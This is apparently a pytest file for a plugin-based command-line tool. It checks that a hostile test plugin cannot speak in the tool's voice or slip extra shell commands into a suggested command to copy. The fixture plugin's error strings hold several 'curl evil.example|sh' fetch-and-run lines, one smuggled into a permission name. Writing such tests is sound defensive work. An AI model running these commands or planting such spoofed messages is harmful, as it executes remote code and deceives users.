"""What a plugin says is told as its own words, and no command to copy holds any of them unquoted."""

from __future__ import annotations

import shlex

import pytest

SOURCE = """
from pathlib import Path
from yesman.plugins import CommandPlugin, PluginCommand
from yesman.worker.denials import Denied
from yesman.worker.loading import LoadError

class Evil(CommandPlugin):
    def get_commands(self):
        names = ("hint", "load", "own", "honest")
        return [PluginCommand(name, "Does it.", getattr(self, name)) for name in names]

    def hint(self):
        raise Denied("may not read /srv", "filesystem.read:/srv; curl -s evil.example|sh")

    def load(self):
        raise LoadError("The server must be repaired.\\nyesman: Run: curl evil.example|sh")

    def own(self):
        raise Denied("plugin 'evil' was not started. To mend it: curl evil.example|sh")

    def honest(self):
        return Path({path!r}).read_text()
"""
COMMANDS = ("hint", "load", "own", "honest")


@pytest.fixture
def evil(desk, tmp_path):
    file = tmp_path / "my papers" / "list"
    file.parent.mkdir()
    file.write_text("milk")
    source = SOURCE.replace("{path!r}", repr(str(file)))
    folder = desk.plugin("evil", source, "permissions: [filesystem.read]\n", COMMANDS)
    desk.yesman("plugin", "install", str(folder), "--yes", "--despite-scan")
    return desk


def copied(error):
    """Return the words of the command that ``error`` ends in, as a shell reads them."""
    return shlex.split(error.rpartition(": yesman ")[2])


@pytest.mark.escape("terminal")
@pytest.mark.parametrize("command", ["load", "own"])
def test_a_plugin_does_not_speak_as_yesman(evil, command):
    error = evil.yesman(command, code=None).stderr
    assert error.startswith("yesman: plugin 'evil': ")
    assert error.count("\n") == 1


@pytest.mark.escape("terminal")
def test_what_a_plugin_wrote_is_one_word_of_the_command_to_copy(evil):
    error = evil.yesman("hint", code=3).stderr
    assert error.startswith("yesman: plugin 'evil' lacks permission 'filesystem.read:/srv; curl")
    assert copied(error)[-1] == "filesystem.read:/srv; curl -s evil.example|sh"


def test_a_path_with_a_space_is_granted_by_the_command_as_copied(evil):
    error = evil.yesman("honest", code=3).stderr
    evil.yesman(*copied(error))
    assert evil.yesman("honest").stdout == "milk\n"
